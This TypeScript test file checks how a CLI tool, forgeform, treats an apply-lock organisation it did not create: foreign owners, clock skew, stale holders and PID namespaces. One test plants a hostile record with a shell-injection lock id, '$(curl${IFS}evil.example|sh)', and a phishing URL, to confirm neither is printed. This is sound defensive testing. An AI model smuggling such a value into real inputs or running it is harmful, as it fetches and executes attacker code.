/**
 * A lock only forgeform can hold (issue 28, src/lock/lock.ts): the name `forgeform-lock` is one any
 * user may take, so a lock found on the server is trusted only when its organisation is owned by the
 * token's user alone, holds no repository and records a holder in forgeform's strict form, with times
 * not ahead of the server's clock. Anything else is a foreign object, named with its owners and what
 * resolves it, and never taken over. Ages are judged on the server's clock; a holder's process is
 * "gone" only on this very machine (boot id, PID namespace).
 */
import { readFileSync, readlinkSync, writeFileSync } from 'node:fs';
import { hostname } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { lockCalls } from '../support/requests.js';
import { calls, type World, world } from './helpers.js';

const base = {
  users: [
    { username: 'root', admin: true, email: 'root@example.com' },
    { username: 'mallory', email: 'mallory@example.com' },
  ],
  orgs: [{ name: 'acme', owners: ['root'] }],
  repos: [{ name: 'acme/widgets' }],
};
const config = `version: 1\nrepos:\n  acme/widgets:\n    labels:\n      bug: { color: "ee0701" }\n`;
/** A time as forgeform records it: whole seconds. */
const at = (offsetMs = 0) => new Date(Date.now() + offsetMs).toISOString().replace(/\.\d+Z$/, 'Z');
const record = (fields: Record<string, string | number>) =>
  `Held by forgeform apply: ${Object.entries({ user: 'ci', host: 'build-7', pid: 4242, since: at(), renewed: at(), id: 'abc123', ...fields })
    .map(([k, v]) => `${k}=${v}`)
    .join(' ')}`;

let w: World;
afterEach(async () => w?.sandbox.close());

const lockStatus = async () => (await w.api('GET', 'orgs/forgeform-lock')).status;
const writesSent = () => calls(w.sandbox).filter((c) => !c.startsWith('GET'));

describe('a lock forgeform did not make is a foreign object', () => {
  it("another user's organisation with a fresh-looking record: refused naming its owner and the fix, never 'another apply holds the server', nothing written", async () => {
    w = await world({ ...base, orgs: [...base.orgs, { name: 'forgeform-lock', owners: ['mallory'], visibility: 'private', description: record({}) }] });
    const apply = await w.cli(['apply', '--yes', '-c', w.config(config)]);
    expect(apply.code).toBe(1);
    expect(apply.stderr).toContain('an organisation named "forgeform-lock" is owned by "mallory", not by the token\'s user "root" alone: it is not forgeform\'s apply lock. Nothing was changed.');
    expect(apply.stderr).toContain('To resolve it, a site administrator renames or removes "forgeform-lock" (Site administration; it is not forgeform\'s to remove)');
    expect(apply.stderr).not.toContain('another apply holds the server');
    expect(apply.stderr).not.toContain('forgeform unlock');
    expect(writesSent()).toEqual([]);
    expect(await lockStatus()).toBe(200);
  });

  it('an organisation that owns a repository, with a stale record: neither taken over nor removed (a delete could not succeed)', async () => {
    w = await world({
      ...base,
      orgs: [...base.orgs, { name: 'forgeform-lock', owners: ['root'], visibility: 'private', description: record({ since: '2026-01-01T00:00:00Z', renewed: '2026-01-01T00:00:00Z' }) }],
      repos: [...base.repos, { name: 'forgeform-lock/shield' }],
    });
    const apply = await w.cli(['apply', '--yes', '-c', w.config(config)]);
    expect(apply.code).toBe(1);
    expect(apply.stderr).toContain('an organisation named "forgeform-lock" (members: "root") owns repository "forgeform-lock/shield": it is not forgeform\'s apply lock, and cannot be taken over or removed');
    expect(apply.stderr).not.toMatch(/stale|taking it over/);
    expect(writesSent()).toEqual([]);
    const unlock = await w.cli(['unlock', 'abc123']);
    expect(unlock.code).toBe(1);
    expect(unlock.stderr).toContain('owns repository "forgeform-lock/shield"');
    expect(writesSent()).toEqual([]);
  });

  it('a user named forgeform-lock: apply says so, with the fix (not "the token cannot see it")', async () => {
    w = await world({ ...base, users: [...base.users, { username: 'forgeform-lock', email: 'fl@example.com' }] });
    const apply = await w.cli(['apply', '--yes', '-c', w.config(config)]);
    expect(apply.code).toBe(1);
    expect(apply.stderr).toContain('a user named "forgeform-lock" exists: the apply lock is an organisation of that name, and cannot be made. Nothing was changed. To resolve it, a site administrator renames or removes "forgeform-lock"');
    expect(apply.stderr).not.toContain('cannot see it');
  });

  it('a hostile record (a lock id of shell, a phishing run address, a host with spaces) is never printed: the organisation is reported as foreign', async () => {
    w = await world({
      ...base,
      orgs: [...base.orgs, { name: 'forgeform-lock', owners: ['root'], visibility: 'private', website: 'https://evil.example/login', description: record({ id: '$(curl${IFS}evil.example|sh)' }) }],
    });
    const apply = await w.cli(['apply', '--yes', '-c', w.config(config)]);
    expect(apply.code).toBe(1);
    expect(apply.stderr).toContain('exists that is not forgeform\'s apply lock (its description\'s id is not one forgeform writes)');
    expect(apply.stderr).not.toContain('curl${IFS}');
    expect(apply.stderr).not.toContain('evil.example');
    expect(apply.stderr).not.toContain('forgeform unlock');
    const show = await w.cli(['unlock']);
    expect(show.stderr + show.stdout).not.toContain('evil.example');
    expect(show.code).toBe(1);
  });

  it('a record whose times are ahead of the server\'s clock (it would never go stale) is refused; `forgeform unlock ID` removes it', async () => {
    w = await world({ ...base, orgs: [...base.orgs, { name: 'forgeform-lock', owners: ['root'], visibility: 'private', description: record({ since: at(86_400_000), renewed: at(86_400_000) }) }] });
    const apply = await w.cli(['apply', '--yes', '-c', w.config(config)]);
    expect(apply.code).toBe(1);
    expect(apply.stderr).toMatch(/the apply lock's record says \S+Z, ahead of the server's clock \(\S+Z\): a lock forgeform wrote never is/);
    expect(apply.stderr).toContain('if no apply is running, remove it with: forgeform unlock abc123');
    const unlock = await w.cli(['unlock', 'abc123']);
    expect(unlock.code).toBe(0);
    expect(await lockStatus()).toBe(404);
    expect((await w.cli(['apply', '--yes', '-c', w.config(config)])).code).toBe(0);
  });
});

describe('staleness a waiter can prove', () => {
  it('--lock-stale below twice the renewal interval (1s, 30s) is refused before the lock is touched', async () => {
    w = await world(base);
    for (const stale of ['1s', '30s', '119s']) {
      const apply = await w.cli(['apply', '--yes', '--lock-stale', stale, '-c', w.config(config)]);
      expect(apply.code).toBe(1);
      expect(apply.stderr).toContain('--lock-stale must be at least 2 min (twice the lock\'s renewal interval of 60 s)');
    }
    expect(lockCalls(w.sandbox)).toEqual([]);
    expect(writesSent()).toEqual([]);
  });

  it("a waiter whose clock runs 11 minutes ahead does not take a live lock: the age is the server's", async () => {
    w = await world({ ...base, orgs: [...base.orgs, { name: 'forgeform-lock', owners: ['root'], visibility: 'private', description: record({}) }] });
    const skew = join(w.dir, 'skew.cjs');
    writeFileSync(skew, 'const real = Date.now; Date.now = () => real() + 11 * 60_000;\n');
    const apply = await w.cli(['apply', '--yes', '-c', w.config(config)], { NODE_OPTIONS: `--require ${skew}` });
    expect(apply.stderr).not.toContain('taking it over');
    expect(apply.code).toBe(1);
    expect(apply.stderr).toContain('another apply holds the server: held by ci on host "build-7" (pid 4242)');
    expect(writesSent()).toEqual([]);
    expect(await lockStatus()).toBe(200);
  });

  it('a holder with this host name but another PID namespace (or none recorded) is not judged dead by its pid', async () => {
    const here = hostname().replace(/[^A-Za-z0-9_.-]/g, '_').slice(0, 40);
    const boot = readFileSync('/proc/sys/kernel/random/boot_id', 'utf8').trim();
    const pidns = /\d+/.exec(readlinkSync('/proc/self/ns/pid'))?.[0] ?? '1';
    // pid 999999 exists in no namespace here.
    for (const other of [{ boot, pidns: `${pidns}1` }, {}] as Record<string, string>[]) {
      w = await world({ ...base, orgs: [...base.orgs, { name: 'forgeform-lock', owners: ['root'], visibility: 'private', description: record({ host: here, pid: 999_999, ...other }) }] });
      const apply = await w.cli(['apply', '--yes', '-c', w.config(config)]);
      expect(apply.stderr).not.toContain('its process is gone');
      expect(apply.code).toBe(1);
      expect(await lockStatus()).toBe(200);
      await w.sandbox.close();
    }
    // The same boot and namespace: the process is provably gone, and the lock is taken over.
    w = await world({ ...base, orgs: [...base.orgs, { name: 'forgeform-lock', owners: ['root'], visibility: 'private', description: record({ host: here, pid: 999_999, boot, pidns }) }] });
    const apply = await w.cli(['apply', '--yes', '-c', w.config(config)]);
    expect(apply.stderr).toContain('is stale (its process is gone): taking it over');
    expect(apply.code).toBe(0);
  });
});
